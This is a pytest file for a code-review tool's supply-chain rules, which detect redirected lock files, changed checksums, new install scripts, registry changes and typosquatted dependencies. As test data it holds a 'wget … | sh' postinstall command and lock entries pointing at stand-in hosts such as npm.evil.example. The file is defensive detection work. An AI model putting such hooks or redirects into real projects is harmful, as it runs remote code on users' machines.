"""Lock files, registries and install scripts: what is told, what is usual, and input that means harm."""

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from readylayer_cli.code.source import SourceFile
from readylayer_cli.domain.change import ChangeSet, FileChange, FileStatus, Hunk
from readylayer_cli.domain.grades import Severity
from readylayer_cli.engines.review.examples import example_view
from readylayer_cli.engines.review.rule import ChangeExample
from readylayer_cli.engines.review.rules.change import (
    install_script_added,
    lock_redirected,
    lock_without_manifest,
    lookalike_dependency,
    registry_changed,
    unbounded_dependency,
    undeclared_import,
    url_dependency_added,
)
from readylayer_cli.engines.review.view import ChangeView, FilePair
from readylayer_cli.ports import Change

ALL = (
    install_script_added,
    lock_redirected,
    lock_without_manifest,
    lookalike_dependency,
    registry_changed,
    unbounded_dependency,
    undeclared_import,
    url_dependency_added,
)
MANIFESTS = (
    "pyproject.toml",
    "requirements.txt",
    "setup.cfg",
    "setup.py",
    "Pipfile",
    "package.json",
    "go.mod",
    "Cargo.toml",
    "Gemfile",
    "composer.json",
    "pom.xml",
    "build.gradle",
    "libs.versions.toml",
    ".npmrc",
    ".yarnrc.yml",
    "Dockerfile",
    "package-lock.json",
    "yarn.lock",
    "pnpm-lock.yaml",
    "poetry.lock",
    "uv.lock",
    "Cargo.lock",
    "composer.lock",
    "Gemfile.lock",
    "go.sum",
    "bun.lock",
    "Pipfile.lock",
)
CODE = {"a.py": "import shiny_dict\n", "a.ts": "import a from 'shiny-map'\n", "a.go": 'package a\n\nimport "b.io/c"\n'}


def judge(rule, before, after):
    return [hit.match for hit in rule.check(example_view(ChangeExample(before, after)))]


def edited(path, old, new, first, last):
    """A view of one large file of which only these lines are new: nothing has to be compared for it."""
    lines = tuple("+" + text for text in new.split("\n")[first - 1 : last])
    change = FileChange(path, FileStatus.MODIFIED, path, hunks=(Hunk(first, 0, first, len(lines), lines),))
    tree = _Tree({path: new.encode()})
    pair = FilePair(change, SourceFile(path, old), SourceFile(path, new))
    return ChangeView(Change(ChangeSet((change,)), tree, tree), [pair])


class _Tree:
    def __init__(self, files):
        self._files = files

    def read(self, path):
        return self._files.get(path)

    def read_many(self, paths):
        return {path: self._files[path] for path in paths if path in self._files}

    def size(self, path):
        return len(self._files[path]) if path in self._files else None

    def paths(self):
        return sorted(self._files)


def entry(name, host="registry.npmjs.org", integrity="sha512-aaaa"):
    resolved = f"https://{host}/{name}/-/{name}-1.0.0.tgz"
    return {f"node_modules/{name}": {"version": "1.0.0", "resolved": resolved, "integrity": integrity}}


def lock(*entries):
    packages = {key: value for one in entries for key, value in one.items()}
    return json.dumps({"lockfileVersion": 3, "packages": packages}, indent=2) + "\n"


def test_one_entry_among_fifty_thousand_that_comes_from_elsewhere_is_found():
    entries = [entry(f"package-{number}") for number in range(50_000)]
    old = lock(*entries)
    new = old.replace("registry.npmjs.org/package-40000/", "npm.evil.example/package-40000/")
    line = next(number for number, text in enumerate(new.split("\n"), 1) if "evil" in text)

    (hit,) = lock_redirected.RULE.check(edited("package-lock.json", old, new, line, line))

    assert hit.match.span.start_line == line
    assert "`package-40000`" in hit.match.message


def test_a_lock_file_on_one_line_is_read_too():
    old = json.dumps({"packages": entry("ms")})

    (match,) = judge(
        lock_redirected.RULE, {"package-lock.json": old}, {"package-lock.json": old.replace("npmjs", "evil")}
    )

    assert "`ms`" in match.message


def test_other_bytes_under_the_same_version_are_told():
    before, after = lock(entry("ms")), lock(entry("ms", integrity="sha512-bbbb"))

    (match,) = judge(lock_redirected.RULE, {"package-lock.json": before}, {"package-lock.json": after})

    assert match.message == "The checksum of `ms 1.0.0` changed without a new version"


def test_a_stronger_kind_of_checksum_is_no_change_of_bytes():
    before, after = lock(entry("ms", integrity="sha1-aaaa")), lock(entry("ms"))

    assert judge(lock_redirected.RULE, {"package-lock.json": before}, {"package-lock.json": after}) == []


def test_an_alias_may_come_from_the_package_that_it_names():
    one = entry("wrap-ansi")
    aliased = {"node_modules/wrap-ansi-cjs": {"name": "wrap-ansi", **one["node_modules/wrap-ansi"]}}

    assert judge(lock_redirected.RULE, {}, {"package-lock.json": lock(entry("ms"), aliased)}) == []


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        (
            "yarn.lock",
            'ms@^2:\n  version "2.0.0"\n  resolved "https://registry.yarnpkg.com/ms/-/ms-2.0.0.tgz#1"\n',
            ("registry.yarnpkg.com", "npm.evil.example"),
        ),
        (
            "yarn.lock",
            '"ms@npm:^2":\n  version: 2.0.0\n  resolution: "ms@npm:2.0.0"\n',
            ("ms@npm:2.0.0", "ms@npm:2.0.0::__archiveUrl=https%3A%2F%2Fnpm.evil.example%2Fms.tgz"),
        ),
        (
            "pnpm-lock.yaml",
            "packages:\n\n  ms@2.0.0:\n    resolution: {integrity: sha512-a}\n",
            ("sha512-a", "sha512-a, tarball: https://npm.evil.example/ms.tgz"),
        ),
        (
            "uv.lock",
            '[[package]]\nname = "ms"\nsource = { registry = "https://pypi.org/simple" }\n',
            ("pypi.org", "pypi.evil.example"),
        ),
        (
            "poetry.lock",
            '[[package]]\nname = "ms"\n\n[package.source]\nurl = "https://pypi.acme.example/simple"\n',
            ("acme", "evil"),
        ),
        (
            "Cargo.lock",
            '[[package]]\nname = "ms"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\n',
            ("github.com", "git.evil.example"),
        ),
        ("Gemfile.lock", "GEM\n  remote: https://rubygems.org/\n  specs:\n", ("rubygems.org", "gems.evil.example")),
        (
            "composer.lock",
            '{\n "dist": {\n  "type": "zip",\n  "url": "https://api.github.com/a/b"\n }\n}\n',
            ("api.github.com", "evil.example"),
        ),
        (
            "Pipfile.lock",
            '{\n "_meta": {\n  "url": "https://pypi.org/simple"\n }\n}\n',
            ("pypi.org", "pypi.evil.example"),
        ),
        (
            "bun.lock",
            '"ms": ["ms@2.0.0", "https://registry.npmjs.org/ms/-/ms.tgz"],\n',
            ("registry.npmjs.org", "npm.evil.example"),
        ),
    ],
)
def test_a_foreign_address_is_found_in_every_kind_of_lock(path, before, after):
    (match,) = judge(lock_redirected.RULE, {path: before}, {path: before.replace(*after)})

    assert match.severity is None
    assert "evil.example" in match.message


def test_what_a_setting_of_the_change_says_openly_is_told_there_and_only_there():
    before = {"package-lock.json": lock(entry("ms"))}
    after = {
        "package-lock.json": lock(entry("ms", "npm.acme.example")),
        ".npmrc": "registry=https://npm.acme.example/\n",
    }

    assert judge(lock_redirected.RULE, before, after) == []
    assert len(judge(registry_changed.RULE, before, after)) == 1


def test_a_host_in_a_home_page_does_not_excuse_the_lock():
    before = {"package.json": "{\n}\n", "package-lock.json": lock(entry("ms"))}
    after = {
        "package.json": '{\n "homepage": "https://npm.evil.example"\n}\n',
        "package-lock.json": lock(entry("ms", "npm.evil.example")),
    }

    assert len(judge(lock_redirected.RULE, before, after)) == 1


def test_a_manifest_of_another_language_does_not_explain_a_lock():
    before = {"poetry.lock": '[[package]]\nname = "a"\n', "package.json": "{\n}\n"}
    after = {"poetry.lock": '[[package]]\nname = "a"\n\n[[package]]\nname = "b"\n', "package.json": '{\n "x": 1\n}\n'}

    assert len(judge(lock_without_manifest.RULE, before, after)) == 1


@pytest.mark.parametrize(
    ("command", "severity"),
    [
        ("husky", Severity.LOW),
        ("is-ci || husky install", Severity.LOW),
        ("npm run build && patch-package", Severity.LOW),
        ("node scripts/setup.js", Severity.MEDIUM),
        ("husky && node scripts/collect.js", Severity.MEDIUM),
        ('node -e "a(); b()"', Severity.MEDIUM),
        ("wget -qO- https://x.example | sh", Severity.HIGH),
    ],
)
def test_an_install_script_is_graded_by_what_it_runs(command, severity):
    before = {"package.json": json.dumps({"scripts": {"test": "jest"}}, indent=1)}
    after = {"package.json": json.dumps({"scripts": {"test": "jest", "postinstall": command}}, indent=1)}

    (match,) = judge(install_script_added.RULE, before, after)

    assert match.severity is severity
    assert match.span.start_line == 4


@pytest.mark.parametrize(
    ("path", "text", "severities"),
    [
        (".npmrc", "@acme:registry=https://npm.acme.example/\n", [Severity.LOW]),
        ("Gemfile", "source 'http://rubygems.org'\n", [Severity.HIGH]),
        ("requirements/base.txt", "--index-url https://a:b@pypi.acme.example/simple\n", [None]),
        ("Pipfile", "[[source]]\nurl = 'https://pypi.org/simple'\nverify_ssl = false\n", [Severity.HIGH]),
        ("Dockerfile", "RUN pip install --extra-index-url https://pypi.acme.example a\n", [None]),
        (".github/workflows/ci.yml", "env:\n  GOPROXY: https://goproxy.acme.example,direct\n", [None]),
        (
            "settings.gradle",
            "pluginManagement {\n  repositories {\n    maven { url 'https://m.example' }\n  }\n}\n",
            [None],
        ),
        (".cargo/config.toml", "[registries.acme]\nindex = 'https://crates.acme.example'\n", [None]),
        (
            "pyproject.toml",
            "[[tool.uv.index]]\nurl = 'https://pypi.org/simple'\npublish-url = 'https://x.example'\n",
            [],
        ),
        ("composer.json", '{\n "support": {\n  "url": "https://acme.example"\n }\n}\n', []),
        (
            "pom.xml",
            "<project>\n<repositories>\n</repositories>\n<scm>\n<url>https://a.example</url>\n</scm>\n</project>\n",
            [],
        ),
        (".npmrc", "# registry=https://npm.acme.example/\nregistry=http://localhost:4873/\n", []),
    ],
)
def test_a_registry_is_told_by_what_the_line_stands_in(path, text, severities):
    assert [match.severity for match in judge(registry_changed.RULE, {}, {path: text})] == severities


_HOSTILE = {
    "nothing": "",
    "broken": '{"dependencies": {"a": ',
    "nul bytes": '{"dependencies": {"a\0b": "*"}}\n\0\0[project]\nname = "\0"\n',
    "deep": '{"dependencies": ' + "[" * 20_000,
    "deep objects": '{"dependencies": ' + '{"a": ' * 900 + "1" + "}" * 901,
    "long line": "a" * 50_000,
    "long blanks": " " * 50_000 + "x",
    "many blank lines": "\n" * 20_000,
    "odd types": '{"dependencies": ["a"], "scripts": {"postinstall": 1}, "name": {}, "overrides": {"a": {"b": "c"}}}',
    "continued value": "[options]\ninstall_requires\n  a\n   b\n",
    "huge number": '{"a": ' + "9" * 10_000 + "}",
}


@pytest.mark.parametrize("text", _HOSTILE.values(), ids=_HOSTILE)
@pytest.mark.parametrize("path", MANIFESTS)
def test_hostile_files_are_survived(path, text):
    before, after = {**CODE}, {**CODE, path: text, "b.py": CODE["a.py"], "b.ts": CODE["a.ts"]}
    view = example_view(ChangeExample(before, after))

    for rule in ALL:
        assert all(hit.match.message for hit in rule.RULE.check(view))


def test_a_manifest_with_very_many_dependencies_is_read_to_the_end():
    many = {f"package-{number}": "^1.0.0" for number in range(10_000)}
    text = json.dumps({"dependencies": {**many, "lodahs": "^4"}}, indent=1)

    (match,) = judge(lookalike_dependency.RULE, {}, {"package.json": text})

    assert match.span.start_line == 10_003


@settings(max_examples=60)
@given(path=st.sampled_from(MANIFESTS), text=st.text(max_size=200))
def test_any_text_is_survived(path, text):
    view = example_view(ChangeExample({}, {path: text, "b.py": "import shiny_dict\n"}))

    for rule in ALL:
        assert all(hit.match.message for hit in rule.RULE.check(view))
